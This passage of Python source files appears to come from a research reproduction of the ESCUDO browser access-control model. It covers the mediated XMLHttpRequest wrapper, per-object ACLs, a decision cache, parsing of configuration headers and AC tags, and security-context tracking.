            "readyState": self.ready_state,
            "onload": self._onload,
            "onreadystatechange": self._onreadystatechange,
        }
        if name not in members:
            raise RuntimeScriptError(f"XMLHttpRequest has no property {name!r}")
        return members[name]

    def js_set(self, name: str, value) -> None:
        if name == "onload":
            self._onload = value
            return
        if name == "onreadystatechange":
            self._onreadystatechange = value
            return
        raise RuntimeScriptError(f"XMLHttpRequest property {name!r} is not writable")

    # -- behaviour ----------------------------------------------------------------------

    def _open(self, method, url, *_ignored) -> None:
        self._method = str(method).upper()
        self._url_text = str(url)
        self.ready_state = 1.0

    def _set_request_header(self, name, value) -> None:
        self._request_headers.set(str(name), str(value))

    def _get_response_header(self, name) -> str | None:
        return self._response_headers.get(str(name))

    def _abort(self) -> None:
        self.ready_state = 0.0
        self.status = 0.0
        self.response_text = ""

    def _send(self, body=None) -> None:
        if self._url_text is None:
            raise RuntimeScriptError("XMLHttpRequest.send() called before open()")

        # Mediation: the principal must be allowed to *use* the XHR API
        # object.  The fast-path predicate is fully recorded like authorize();
        # repeated sends by the same principal are decision-cache hits.
        api_context = self._page.api_context("XMLHttpRequest")
        if not self._page.monitor.allows(
            self._principal,
            api_context,
            Operation.USE,
            object_label="XMLHttpRequest (native-api)",
        ):
            self.denied = True
            self.status = 0.0
            self.response_text = ""
            self.ready_state = 4.0
            self._fire_callbacks()
            return

        target = self._page.url.resolve(self._url_text)
        response = self._browser.issue_request(
            page=self._page,
            principal=self._principal,
            method=self._method,
            url=target,
            body=str(body) if body is not None else "",
            headers=self._request_headers,
            initiator_label=f"xhr:{self._principal.label}",
        )
        self.status = float(response.status)
        self.response_text = response.body
        self._response_headers = response.headers
        self.ready_state = 4.0
        self._fire_callbacks()

    def _fire_callbacks(self) -> None:
        for callback in (self._onreadystatechange, self._onload):
            if callback is None or self._invoke is None:
                continue
            self._invoke(callback, [])
