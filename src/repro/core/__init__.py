"""ESCUDO core: rings, ACLs, contexts, policies and the reference monitor.

This package is the paper's primary contribution in library form.  It is
deliberately free of browser/DOM/HTTP dependencies so the model can be used
and tested on its own; the substrate packages (:mod:`repro.browser`,
:mod:`repro.dom`, :mod:`repro.http`) build on top of it.
"""

from .acl import Acl, parse_acl_attributes
from .cache import CacheInfo, DecisionCache
from .config import (
    AC_TAG_NAME,
    API_POLICY_HEADER,
    COOKIE_POLICY_HEADER,
    PROTECTED_ATTRIBUTES,
    RING_ATTRIBUTE,
    RINGS_HEADER,
    AcTagLabel,
    PageConfiguration,
    ResourcePolicy,
    extract_ac_label,
    format_policy_header,
    is_ac_tag,
    parse_policy_header,
)
from .context import ContextTracker, SecurityContext
from .decision import AccessDecision, Operation, Rule, RuleOutcome, Verdict
from .errors import (
    AccessDenied,
    ConfigurationError,
    EscudoError,
    NonceError,
    RingRangeError,
    ScopingViolation,
    TamperingError,
    UnknownOperationError,
)
from .monitor import AuditLog, EscudoReferenceMonitor, MonitorStats, ReferenceMonitor
from .nonce import NONCE_ATTRIBUTE, NonceGenerator, NonceMismatch, NonceValidator
from .objects import (
    BROWSER_STATE_OBJECTS,
    NATIVE_APIS,
    ObjectKind,
    Protected,
    ProtectedObject,
    browser_state_object,
)
from .origin import Origin
from .policy import AccessRequest, EscudoPolicy, Policy, evaluate_matrix, explain
from .principal import (
    HTTP_REQUEST_ISSUING_TAGS,
    SCRIPT_INVOKING_TAGS,
    UI_EVENT_ATTRIBUTES,
    Principal,
    PrincipalKind,
    classify_tag,
    event_handler_attributes,
)
from .rings import DEFAULT_RING_COUNT, MOST_PRIVILEGED, Ring, RingSet, as_ring
from .scoping import (
    ScopingViolationReport,
    audit_tree,
    clamp_chain,
    effective_ring,
    is_violation,
    require_within_scope,
)
from .sop import SameOriginPolicy, escudo_collapses_to_sop

__all__ = [
    "AC_TAG_NAME",
    "API_POLICY_HEADER",
    "BROWSER_STATE_OBJECTS",
    "COOKIE_POLICY_HEADER",
    "DEFAULT_RING_COUNT",
    "HTTP_REQUEST_ISSUING_TAGS",
    "MOST_PRIVILEGED",
    "NATIVE_APIS",
    "NONCE_ATTRIBUTE",
    "PROTECTED_ATTRIBUTES",
    "RINGS_HEADER",
    "RING_ATTRIBUTE",
    "SCRIPT_INVOKING_TAGS",
    "UI_EVENT_ATTRIBUTES",
    "AccessDecision",
    "AccessDenied",
    "AccessRequest",
    "Acl",
    "AcTagLabel",
    "AuditLog",
    "CacheInfo",
    "ConfigurationError",
    "ContextTracker",
    "DecisionCache",
    "EscudoError",
    "EscudoPolicy",
    "EscudoReferenceMonitor",
    "MonitorStats",
    "NonceError",
    "NonceGenerator",
    "NonceMismatch",
    "NonceValidator",
    "ObjectKind",
    "Operation",
    "Origin",
    "PageConfiguration",
    "Policy",
    "Principal",
    "PrincipalKind",
    "Protected",
    "ProtectedObject",
    "ReferenceMonitor",
    "ResourcePolicy",
    "Ring",
    "RingRangeError",
    "RingSet",
    "Rule",
    "RuleOutcome",
    "SameOriginPolicy",
    "ScopingViolation",
    "ScopingViolationReport",
    "SecurityContext",
    "TamperingError",
    "UnknownOperationError",
    "Verdict",
    "as_ring",
    "audit_tree",
    "browser_state_object",
    "clamp_chain",
    "classify_tag",
    "effective_ring",
    "escudo_collapses_to_sop",
    "evaluate_matrix",
    "event_handler_attributes",
    "explain",
    "extract_ac_label",
    "format_policy_header",
    "is_ac_tag",
    "is_violation",
    "parse_acl_attributes",
    "parse_policy_header",
    "require_within_scope",
]
