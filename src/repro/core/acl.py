"""Per-object access-control lists.

Every ESCUDO object may carry an ACL refining the protection already provided
by its ring.  The ACL names, for each of the three operations (``read``,
``write``, ``use``), the *outermost* (least privileged) ring that may perform
the operation.  The paper's example ``<div ring=2 r=1 w=0 x=2>`` therefore
means: the content lives in ring 2, principals in rings 0..1 may read it,
only ring 0 may write it, and rings 0..2 may "use" it.

Missing ACL entries default to ring 0 (only the most privileged ring may
perform the operation), per the fail-safe-defaults guideline.  Note that an
ACL can never *grant* more than the ring rule allows -- the ring rule is
evaluated independently and an over-permissive ACL is simply ineffective.
"""

from __future__ import annotations

from dataclasses import dataclass
from typing import Mapping

from .decision import Operation
from .errors import ConfigurationError
from .rings import MOST_PRIVILEGED, Ring, RingSet, as_ring


@dataclass(frozen=True)
class Acl:
    """Immutable (read, write, use) permission triple.

    Each field holds the outermost ring allowed to perform that operation.
    """

    read: Ring = Ring(MOST_PRIVILEGED)
    write: Ring = Ring(MOST_PRIVILEGED)
    use: Ring = Ring(MOST_PRIVILEGED)

    # -- construction ---------------------------------------------------------

    @classmethod
    def default(cls) -> "Acl":
        """The fail-safe default ACL: ``r=0, w=0, x=0``."""
        return cls()

    @classmethod
    def uniform(cls, ring: Ring | int) -> "Acl":
        """An ACL allowing the same outermost ring for all three operations."""
        r = as_ring(ring)
        return cls(read=r, write=r, use=r)

    @classmethod
    def of(cls, read: Ring | int | None = None, write: Ring | int | None = None,
           use: Ring | int | None = None) -> "Acl":
        """Build an ACL from optional per-operation limits.

        Missing operations default to ring 0 (most restrictive).
        """
        def coerce(value: Ring | int | None) -> Ring:
            if value is None:
                return Ring(MOST_PRIVILEGED)
            return as_ring(value)

        return cls(read=coerce(read), write=coerce(write), use=coerce(use))

    @classmethod
    def from_mapping(cls, mapping: Mapping[str, object], *, rings: RingSet | None = None) -> "Acl":
        """Build an ACL from a mapping of attribute names to ring labels.

        Accepts both the short AC-tag attribute names (``r``, ``w``, ``x``)
        and the long names (``read``, ``write``, ``use``).  String values are
        parsed leniently (malformed values fall back to ring 0); integer
        values are validated.  ``rings`` is used to clamp labels into the
        page's ring universe when provided.
        """
        universe = rings if rings is not None else RingSet()
        limits: dict[Operation, Ring] = {}
        for key, raw in mapping.items():
            try:
                operation = Operation.from_text(str(key))
            except Exception:
                continue
            if isinstance(raw, Ring):
                ring = universe.clamp(raw)
            elif isinstance(raw, int) and not isinstance(raw, bool):
                if raw < 0:
                    ring = Ring(MOST_PRIVILEGED)
                else:
                    ring = universe.clamp(raw)
            else:
                ring = universe.parse_label(
                    str(raw) if raw is not None else None,
                    default=Ring(MOST_PRIVILEGED),
                )
            limits[operation] = ring
        return cls(
            read=limits.get(Operation.READ, Ring(MOST_PRIVILEGED)),
            write=limits.get(Operation.WRITE, Ring(MOST_PRIVILEGED)),
            use=limits.get(Operation.USE, Ring(MOST_PRIVILEGED)),
        )

    # -- queries ---------------------------------------------------------------

    def limit_for(self, operation: Operation) -> Ring:
        """The outermost ring allowed to perform ``operation``."""
        if operation is Operation.READ:
            return self.read
        if operation is Operation.WRITE:
            return self.write
        if operation is Operation.USE:
            return self.use
        raise ConfigurationError(f"unknown operation {operation!r}")

    def permits(self, principal_ring: Ring | int, operation: Operation) -> bool:
        """True when a principal in ``principal_ring`` may perform ``operation``."""
        return as_ring(principal_ring).is_at_least_as_privileged_as(self.limit_for(operation))

    # -- derivation -------------------------------------------------------------

    def restricted_to(self, outer: Ring | int) -> "Acl":
        """Clamp every entry so no operation is granted beyond ``outer``.

        Used by the scoping rule when nested AC scopes try to widen their
        parent's ACL: a child scope can only be *more* restrictive.
        """
        limit = as_ring(outer)
        return Acl(
            read=self.read.elevated_to(limit) if self.read > limit else self.read,
            write=self.write.elevated_to(limit) if self.write > limit else self.write,
            use=self.use.elevated_to(limit) if self.use > limit else self.use,
        )

    def tightened(self, other: "Acl") -> "Acl":
        """Combine two ACLs, keeping the more restrictive limit per operation."""
        return Acl(
            read=self.read.elevated_to(other.read),
            write=self.write.elevated_to(other.write),
            use=self.use.elevated_to(other.use),
        )

    def as_attributes(self) -> dict[str, str]:
        """Serialise the ACL to AC-tag attributes (``r``, ``w``, ``x``)."""
        return {
            "r": str(self.read.level),
            "w": str(self.write.level),
            "x": str(self.use.level),
        }

    def __str__(self) -> str:
        return f"r<={self.read.level} w<={self.write.level} x<={self.use.level}"


def parse_acl_attributes(attributes: Mapping[str, str], *, rings: RingSet | None = None) -> Acl | None:
    """Extract an ACL from an AC tag's attribute mapping.

    Returns ``None`` when none of the ACL attributes (``r``, ``w``, ``x``)
    are present, so the caller can distinguish "no ACL specified" (which, per
    the paper, defaults to the most restrictive ACL for unlabelled content,
    or to the ring's own level for convenience constructors) from an explicit
    specification.
    """
    relevant = {
        key: value
        for key, value in attributes.items()
        if key.lower() in {"r", "w", "x", "read", "write", "use"}
    }
    if not relevant:
        return None
    return Acl.from_mapping(relevant, rings=rings)
