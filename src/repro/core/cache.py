"""Decision caching for the reference monitor's hot path.

Complete mediation means *every* DOM read/write/use funnels through the
reference monitor, so the monitor's per-request cost is exactly the overhead
the paper's Figure 4 measures.  The policies are pure functions over frozen
:class:`~repro.core.context.SecurityContext` values, which makes their
verdicts perfectly cacheable: the same ``(principal, target, operation)``
triple always yields the same decision for a given policy configuration.

:class:`DecisionCache` memoises fully materialised
:class:`~repro.core.decision.AccessDecision` values (they are frozen, so a
cached decision can safely be handed out -- and audited -- many times).
Correctness is guarded two ways:

* **Value keying** -- contexts are immutable; relabelling an entity (ACL,
  ring or nonce change) produces a *new* context and therefore a new cache
  key, so stale entries can never be consulted for the relabelled entity.
* **Generation invalidation** -- the monitor bumps the cache generation
  (dropping every entry) on :meth:`~repro.core.monitor.ReferenceMonitor.reset`,
  on policy swap, and whenever the browser relabels live objects in place
  (e.g. a response's ``X-Escudo-Cookie-Policy`` relabelling stored cookies),
  as a belt-and-braces defence for callers that mutate policy state.
"""

from __future__ import annotations

from dataclasses import dataclass
from typing import TYPE_CHECKING, Hashable

if TYPE_CHECKING:  # pragma: no cover - import cycle guard, types only
    from .decision import AccessDecision


@dataclass(frozen=True)
class CacheInfo:
    """Read-only snapshot of a cache's effectiveness counters."""

    hits: int
    misses: int
    size: int
    maxsize: int
    generation: int
    invalidations: int

    @property
    def lookups(self) -> int:
        """Total lookups served (hits + misses)."""
        return self.hits + self.misses

    @property
    def hit_rate(self) -> float:
        """Fraction of lookups served from the cache (0.0 when unused)."""
        total = self.hits + self.misses
        return self.hits / total if total else 0.0

    def as_dict(self) -> dict[str, object]:
        """Serialise for benchmark reports."""
        return {
            "hits": self.hits,
            "misses": self.misses,
            "hit_rate": self.hit_rate,
            "size": self.size,
            "maxsize": self.maxsize,
            "generation": self.generation,
            "invalidations": self.invalidations,
        }


class DecisionCache:
    """Bounded memo of access decisions keyed by request identity.

    The key is built by the monitor from
    ``(principal context, target context, operation, labels)``; everything in
    it is hashable because contexts are frozen dataclasses.  Eviction is
    oldest-first (insertion order): the cache exists to absorb the repeated
    accesses of traversal sweeps and event dispatch, which are temporally
    clustered, so a simple FIFO keeps the hit path to a single dict lookup.
    """

    def __init__(self, maxsize: int = 4096) -> None:
        if maxsize <= 0:
            raise ValueError("decision cache maxsize must be positive")
        self.maxsize = maxsize
        self._decisions: dict[Hashable, "AccessDecision"] = {}
        self._hits = 0
        self._misses = 0
        self._generation = 0
        self._invalidations = 0

    # -- hot path -------------------------------------------------------------------

    def get(self, key: Hashable) -> "AccessDecision | None":
        """Return the cached decision for ``key``, counting hit/miss."""
        decision = self._decisions.get(key)
        if decision is None:
            self._misses += 1
        else:
            self._hits += 1
        return decision

    def put(self, key: Hashable, decision: "AccessDecision") -> None:
        """Store ``decision``, evicting the oldest entry when full."""
        if len(self._decisions) >= self.maxsize and key not in self._decisions:
            self._decisions.pop(next(iter(self._decisions)))
        self._decisions[key] = decision

    # -- invalidation ----------------------------------------------------------------

    def invalidate(self) -> None:
        """Drop every entry and start a new generation.

        Called on ``monitor.reset()``, policy swap, and any in-place
        relabelling of live objects (ACL/ring/nonce changes).
        """
        self._decisions.clear()
        self._generation += 1
        self._invalidations += 1

    @property
    def generation(self) -> int:
        """Monotonic counter identifying the current cache epoch."""
        return self._generation

    # -- introspection ---------------------------------------------------------------

    @property
    def hit_rate(self) -> float:
        """Fraction of lookups served from the cache."""
        total = self._hits + self._misses
        return self._hits / total if total else 0.0

    def info(self) -> CacheInfo:
        """Snapshot the effectiveness counters."""
        return CacheInfo(
            hits=self._hits,
            misses=self._misses,
            size=len(self._decisions),
            maxsize=self.maxsize,
            generation=self._generation,
            invalidations=self._invalidations,
        )

    def reset_counters(self) -> None:
        """Zero the hit/miss counters (entries are kept)."""
        self._hits = 0
        self._misses = 0

    def __len__(self) -> int:
        return len(self._decisions)

    def __contains__(self, key: Hashable) -> bool:
        return key in self._decisions
