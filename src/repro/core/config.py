"""Configuration extraction.

Web applications communicate their ESCUDO configuration to the browser in
two ways (Section 4.1):

* **AC tags** -- ``div`` elements carrying a ``ring`` attribute (plus
  optional ``r``/``w``/``x`` ACL attributes and a ``nonce``) label the DOM
  content inside their scope.
* **Optional HTTP response headers** -- ring/ACL mappings for cookies and
  native code APIs such as ``XMLHttpRequest``, and the total number of rings
  the page uses.

Non-ESCUDO browsers ignore both mechanisms, and pages that use neither are
treated as legacy pages (single ring == same-origin policy), which is what
makes the model incrementally deployable.

This module is deliberately independent of the DOM substrate: it parses
attribute mappings and header values into plain configuration values
(:class:`AcTagLabel`, :class:`ResourcePolicy`, :class:`PageConfiguration`).
Applying those values to a live DOM tree is the job of
:mod:`repro.browser.labeler`.
"""

from __future__ import annotations

from dataclasses import dataclass, field
from functools import lru_cache
from typing import Mapping

from .acl import Acl, parse_acl_attributes
from .errors import ConfigurationError
from .nonce import NONCE_ATTRIBUTE
from .rings import DEFAULT_RING_COUNT, Ring, RingSet

#: The HTML tag used for access-control scoping.
AC_TAG_NAME = "div"

#: The attribute holding a scope's ring label.
RING_ATTRIBUTE = "ring"

#: HTTP response header announcing the number of rings the page uses.
RINGS_HEADER = "X-Escudo-Rings"

#: HTTP response header carrying cookie ring/ACL mappings.
COOKIE_POLICY_HEADER = "X-Escudo-Cookie-Policy"

#: HTTP response header carrying native-API ring/ACL mappings.
API_POLICY_HEADER = "X-Escudo-Api-Policy"

#: All ESCUDO attribute names an AC tag may carry (used by tamper protection).
PROTECTED_ATTRIBUTES = frozenset({RING_ATTRIBUTE, "r", "w", "x", NONCE_ATTRIBUTE})


@dataclass(frozen=True)
class AcTagLabel:
    """The ESCUDO-relevant content of one AC tag.

    ``declared_ring`` is what the markup asked for *before* the scoping rule
    is applied; ``acl`` is ``None`` when the tag specified no ACL attributes
    (the labelling engine then applies the fail-safe default); ``nonce`` is
    the markup-randomisation token, if any.
    """

    declared_ring: Ring | None
    acl: Acl | None
    nonce: str | None

    @property
    def is_labelled(self) -> bool:
        """True when the tag carries at least one ESCUDO attribute."""
        return self.declared_ring is not None or self.acl is not None or self.nonce is not None


def extract_ac_label(attributes: Mapping[str, str], rings: RingSet | None = None) -> AcTagLabel:
    """Parse the ESCUDO attributes of an AC (``div``) tag.

    Parsing is lenient (fail-safe defaults): a malformed ``ring`` value is
    treated as absent, malformed ACL entries fall back to ring 0.
    """
    universe = rings if rings is not None else RingSet()
    lowered = {str(key).lower(): value for key, value in attributes.items()}

    declared_ring: Ring | None = None
    if RING_ATTRIBUTE in lowered:
        raw = lowered[RING_ATTRIBUTE]
        text = raw.strip() if isinstance(raw, str) else str(raw)
        if text:
            try:
                level = int(text, 10)
            except ValueError:
                declared_ring = None
            else:
                declared_ring = universe.clamp(level) if level >= 0 else None

    acl = _fast_acl(lowered, universe)
    if acl is None:
        acl = parse_acl_attributes(lowered, rings=universe)
    nonce_raw = lowered.get(NONCE_ATTRIBUTE)
    nonce = nonce_raw.strip() if isinstance(nonce_raw, str) and nonce_raw.strip() else None
    return AcTagLabel(declared_ring=declared_ring, acl=acl, nonce=nonce)


def _fast_acl(lowered: Mapping[str, str], universe: RingSet) -> Acl | None:
    """Fast path for the overwhelmingly common ACL spelling: ``r=N w=N x=N``.

    Labelling runs this once per AC tag on every page load (the cost Figure 4
    measures), so plain integer values skip the general, lenient parser.
    Returns ``None`` when the attributes are absent or need the slow path.
    """
    if "r" not in lowered and "w" not in lowered and "x" not in lowered:
        if any(key in lowered for key in ("read", "write", "use")):
            return Acl.from_mapping(lowered, rings=universe)
        return None
    highest = universe.highest_level
    limits = []
    for key in ("r", "w", "x"):
        raw = lowered.get(key)
        if raw is None:
            limits.append(0)
            continue
        text = raw.strip() if isinstance(raw, str) else str(raw)
        if not text.isdigit():
            return Acl.from_mapping(lowered, rings=universe)
        limits.append(min(int(text), highest))
    return Acl(read=Ring(limits[0]), write=Ring(limits[1]), use=Ring(limits[2]))


def is_ac_tag(tag_name: str, attributes: Mapping[str, str]) -> bool:
    """True when the element is a ``div`` carrying at least one ESCUDO attribute.

    This runs once per element during page labelling, so it deliberately
    avoids the full attribute parse that :func:`extract_ac_label` performs.
    """
    if tag_name.lower() != AC_TAG_NAME:
        return False
    for key in attributes:
        lowered = key.lower() if not key.islower() else key
        if lowered in PROTECTED_ATTRIBUTES:
            return True
    return False


@dataclass(frozen=True)
class ResourcePolicy:
    """Ring and ACL assigned to a non-DOM resource (cookie or native API)."""

    ring: Ring
    acl: Acl

    @classmethod
    def ring_zero(cls) -> "ResourcePolicy":
        """The fail-safe default: ring 0 with an all-ring-0 ACL."""
        return cls(ring=Ring(0), acl=Acl.uniform(0))

    @classmethod
    def uniform(cls, ring: Ring | int) -> "ResourcePolicy":
        """Ring ``ring`` with an ACL allowing the same outermost ring."""
        r = Ring(ring) if not isinstance(ring, Ring) else ring
        return cls(ring=r, acl=Acl.uniform(r))


@dataclass
class PageConfiguration:
    """The complete ESCUDO configuration of one page / response.

    Built from the HTTP response headers (cookie and API policies, ring
    count).  DOM labels are not stored here -- they live on the DOM tree via
    the labelling engine -- but the configuration records whether the page
    opted into ESCUDO at all, which decides between ESCUDO and legacy (SOP)
    behaviour.
    """

    rings: RingSet = field(default_factory=RingSet)
    cookie_policies: dict[str, ResourcePolicy] = field(default_factory=dict)
    api_policies: dict[str, ResourcePolicy] = field(default_factory=dict)
    escudo_enabled: bool = True

    # -- lookups ---------------------------------------------------------------

    def cookie_policy(self, name: str) -> ResourcePolicy:
        """Policy for cookie ``name``; defaults to ring 0 per the paper."""
        return self.cookie_policies.get(name, ResourcePolicy.ring_zero())

    def api_policy(self, name: str) -> ResourcePolicy:
        """Policy for native API ``name``; defaults to ring 0 per the paper."""
        return self.api_policies.get(name, ResourcePolicy.ring_zero())

    # -- constructors ------------------------------------------------------------

    @classmethod
    def legacy(cls) -> "PageConfiguration":
        """Configuration of a page that supplied no ESCUDO information.

        Legacy pages collapse to a single ring (ring 0 for everything with a
        wide-open intra-origin ACL), which makes the ESCUDO policy behave
        exactly like the same-origin policy.
        """
        return cls(rings=RingSet(0), escudo_enabled=False)

    @classmethod
    def from_headers(cls, headers: Mapping[str, str]) -> "PageConfiguration":
        """Build a configuration from HTTP response headers.

        Unknown headers are ignored; a page is considered ESCUDO-enabled when
        any of the ESCUDO headers is present.  (AC tags in the body can also
        enable ESCUDO -- the loader ORs that in separately.)

        Header parsing is memoised on the ESCUDO header values (applications
        emit the same handful of configurations on every response), but each
        call returns an independent configuration: callers mutate their copy
        (``set_api_policy`` relabels mid-session), so prototypes share only
        immutable pieces (the ring universe and the frozen policies).
        """
        normalized = {str(k).lower(): v for k, v in headers.items()}
        return cls.from_header_values(
            normalized.get(RINGS_HEADER.lower()),
            normalized.get(COOKIE_POLICY_HEADER.lower()),
            normalized.get(API_POLICY_HEADER.lower()),
        )

    @classmethod
    def from_header_values(
        cls,
        ring_header: str | None,
        cookie_header: str | None,
        api_header: str | None,
    ) -> "PageConfiguration":
        """Like :meth:`from_headers` for already-extracted header values.

        The hot path for response processing: callers holding a
        :class:`~repro.http.headers.Headers` object fetch the three ESCUDO
        headers directly instead of materialising an intermediate dict.
        """
        prototype = _configuration_prototype(ring_header, cookie_header, api_header)
        return cls(
            rings=prototype.rings,
            cookie_policies=dict(prototype.cookie_policies),
            api_policies=dict(prototype.api_policies),
            escudo_enabled=prototype.escudo_enabled,
        )

    # -- identity ------------------------------------------------------------------

    def fingerprint(self) -> tuple:
        """Hashable value identity of this configuration.

        Two configurations with equal fingerprints label a page identically,
        which is what the browser's template cache keys labelled DOM variants
        on.  Everything inside is immutable (ints, frozen policies), so the
        fingerprint is stable for dict keys.
        """
        return (
            self.escudo_enabled,
            self.rings.highest_level,
            tuple(sorted(self.cookie_policies.items())),
            tuple(sorted(self.api_policies.items())),
        )

    # -- serialisation ------------------------------------------------------------

    def to_headers(self) -> dict[str, str]:
        """Render the configuration back into HTTP response headers.

        The server-side framework uses this to emit the optional headers.
        """
        headers: dict[str, str] = {}
        if not self.escudo_enabled:
            return headers
        headers[RINGS_HEADER] = str(self.rings.highest_level)
        if self.cookie_policies:
            headers[COOKIE_POLICY_HEADER] = format_policy_header(self.cookie_policies)
        if self.api_policies:
            headers[API_POLICY_HEADER] = format_policy_header(self.api_policies)
        return headers


@lru_cache(maxsize=512)
def _configuration_prototype(
    ring_header: str | None, cookie_header: str | None, api_header: str | None
) -> PageConfiguration:
    """Parse one distinct ESCUDO header combination (shared, treated read-only)."""
    enabled = any(value is not None for value in (ring_header, cookie_header, api_header))
    rings = _parse_rings_header(ring_header)
    config = PageConfiguration(rings=rings, escudo_enabled=enabled)
    if cookie_header:
        config.cookie_policies.update(parse_policy_header(cookie_header, rings))
    if api_header:
        config.api_policies.update(parse_policy_header(api_header, rings))
    return config


def _parse_rings_header(value: str | None) -> RingSet:
    """Parse ``X-Escudo-Rings`` into a ring universe (lenient)."""
    if value is None:
        return RingSet(DEFAULT_RING_COUNT - 1)
    text = value.strip()
    try:
        highest = int(text, 10)
    except ValueError:
        return RingSet(DEFAULT_RING_COUNT - 1)
    if highest < 0:
        return RingSet(DEFAULT_RING_COUNT - 1)
    return RingSet(highest)


def parse_policy_header(value: str, rings: RingSet | None = None) -> dict[str, ResourcePolicy]:
    """Parse a cookie/API policy header.

    Syntax (one entry per resource, comma separated)::

        name; ring=1; r=1; w=1; x=1, other_name; ring=2

    Missing ``ring`` defaults to 0; missing ACL entries default to the ring's
    own level for `r`/`w`/`x` that are omitted *when a ring was given*, and
    to ring 0 otherwise -- i.e. specifying only ``ring=1`` yields an ACL of
    ``r=1 w=1 x=1`` which matches how the case-study tables describe their
    configurations.
    """
    universe = rings if rings is not None else RingSet()
    policies: dict[str, ResourcePolicy] = {}
    for entry in value.split(","):
        entry = entry.strip()
        if not entry:
            continue
        parts = [part.strip() for part in entry.split(";") if part.strip()]
        if not parts:
            continue
        name = parts[0]
        params: dict[str, str] = {}
        for part in parts[1:]:
            key, _, raw = part.partition("=")
            params[key.strip().lower()] = raw.strip()
        ring = universe.parse_label(params.get(RING_ATTRIBUTE), default=Ring(0))
        acl_params = {k: v for k, v in params.items() if k in {"r", "w", "x", "read", "write", "use"}}
        if acl_params:
            acl = Acl.from_mapping(acl_params, rings=universe)
            # Operations not mentioned explicitly default to the resource ring,
            # not ring 0, so "ring=1; x=1" does not accidentally lock reads.
            defaults = Acl.uniform(ring)
            merged = Acl(
                read=acl.read if any(k in acl_params for k in ("r", "read")) else defaults.read,
                write=acl.write if any(k in acl_params for k in ("w", "write")) else defaults.write,
                use=acl.use if any(k in acl_params for k in ("x", "use")) else defaults.use,
            )
            acl = merged
        else:
            acl = Acl.uniform(ring)
        policies[name] = ResourcePolicy(ring=ring, acl=acl)
    return policies


def format_policy_header(policies: Mapping[str, ResourcePolicy]) -> str:
    """Render resource policies into the header syntax parsed above."""
    entries = []
    for name, policy in policies.items():
        if "," in name or ";" in name:
            raise ConfigurationError(f"resource name {name!r} may not contain ',' or ';'")
        attrs = policy.acl.as_attributes()
        entries.append(
            f"{name}; ring={policy.ring.level}; r={attrs['r']}; w={attrs['w']}; x={attrs['x']}"
        )
    return ", ".join(entries)
