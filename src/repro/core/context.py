"""Security contexts.

The ESCUDO implementation in the paper maintains a *security context* for
every principal and object: the origin it belongs to, its ring assignment,
and (for objects) its ACL.  The context is derived from the application's
configuration exactly once -- during parsing -- and is never exposed to
scripts afterwards.

This module defines :class:`SecurityContext`, the immutable value the
reference monitor consumes, and :class:`ContextTracker`, the bookkeeping
structure the browser uses to associate contexts with live entities without
storing them anywhere a script could reach (mirroring the paper's "tracking
the security contexts" implementation component).
"""

from __future__ import annotations

from dataclasses import dataclass, field, replace
from typing import Hashable, Iterator, MutableMapping

from .acl import Acl
from .errors import TamperingError
from .origin import Origin
from .rings import Ring, RingSet, as_ring


@dataclass(frozen=True)
class SecurityContext:
    """Everything the reference monitor needs to know about one entity.

    Attributes
    ----------
    origin:
        The web origin that instantiated the principal or object.
    ring:
        The protection ring the entity was assigned to during configuration.
    acl:
        The per-object ACL.  Principals carry an ACL too (it is simply
        ignored when they act as principals); DOM elements in particular act
        as both principals and objects, so a single context type keeps the
        bookkeeping uniform.
    label:
        Human-readable description used in decisions, logs and reports.
    trusted:
        Marks contexts synthesised by the browser itself (browser chrome,
        internal state).  Trusted contexts bypass the origin rule when the
        *browser* -- not page content -- performs maintenance work.
    """

    origin: Origin
    ring: Ring
    acl: Acl = field(default_factory=Acl.default)
    label: str = "anonymous"
    trusted: bool = False

    # -- derivation -------------------------------------------------------------

    def with_ring(self, ring: Ring | int) -> "SecurityContext":
        """Copy of this context with a different ring."""
        return replace(self, ring=as_ring(ring))

    def with_acl(self, acl: Acl) -> "SecurityContext":
        """Copy of this context with a different ACL."""
        return replace(self, acl=acl)

    def with_label(self, label: str) -> "SecurityContext":
        """Copy of this context with a different display label."""
        return replace(self, label=label)

    def restricted_to(self, outer_ring: Ring | int) -> "SecurityContext":
        """Apply the scoping rule: never exceed the privilege of ``outer_ring``."""
        limit = as_ring(outer_ring)
        return replace(self, ring=self.ring.restricted_to(limit))

    # -- convenience -------------------------------------------------------------

    @classmethod
    def for_page_default(cls, origin: Origin, rings: RingSet, label: str = "unlabelled content") -> "SecurityContext":
        """Fail-safe default context for unlabelled DOM content.

        Per the paper: the ring attribute defaults to the least privileged
        ring and the ACL defaults to ``r=0, w=0, x=0``.
        """
        return cls(origin=origin, ring=rings.least_privileged(), acl=Acl.default(), label=label)

    @classmethod
    def for_infrastructure(cls, origin: Origin, label: str) -> "SecurityContext":
        """Ring-0 context for cookies, native APIs and browser state defaults."""
        return cls(origin=origin, ring=Ring(0), acl=Acl.uniform(0), label=label)

    def __str__(self) -> str:
        return f"{self.label}@{self.origin} [{self.ring}, acl {self.acl}]"


class ContextTracker:
    """Associates security contexts with live browser entities.

    The tracker is keyed by object identity (``id()`` of the tracked entity
    by default, or any hashable key the caller supplies).  It is deliberately
    *not* reachable from the scripting environment: scripts interact with DOM
    wrappers and built-ins that consult the tracker internally, so the
    configuration can never be modified after the initial assignment --
    attempts to re-assign raise :class:`~repro.core.errors.TamperingError`
    unless the caller explicitly asserts browser authority.
    """

    def __init__(self) -> None:
        self._contexts: MutableMapping[Hashable, SecurityContext] = {}

    def assign(self, key: Hashable, context: SecurityContext, *, browser_authority: bool = False) -> None:
        """Record the context for ``key``.

        Re-assignment is refused (ring mapping happens exactly once) unless
        ``browser_authority`` is set, which only browser-internal code paths
        use (e.g. when a page is reloaded and its entities are rebuilt).
        """
        if key in self._contexts and not browser_authority:
            raise TamperingError(
                f"security context for {self._contexts[key].label!r} is already assigned; "
                "ESCUDO performs ring mapping exactly once"
            )
        self._contexts[key] = context

    def lookup(self, key: Hashable) -> SecurityContext | None:
        """Return the context for ``key``, or ``None`` if untracked."""
        return self._contexts.get(key)

    def require(self, key: Hashable) -> SecurityContext:
        """Return the context for ``key``, raising ``KeyError`` if untracked."""
        return self._contexts[key]

    def forget(self, key: Hashable) -> None:
        """Drop the context for ``key`` (used when entities are destroyed)."""
        self._contexts.pop(key, None)

    def __contains__(self, key: Hashable) -> bool:
        return key in self._contexts

    def __len__(self) -> int:
        return len(self._contexts)

    def __iter__(self) -> Iterator[Hashable]:
        return iter(self._contexts)

    def clear(self) -> None:
        """Forget every tracked context (page teardown)."""
        self._contexts.clear()
