"""Operations, rules and access decisions.

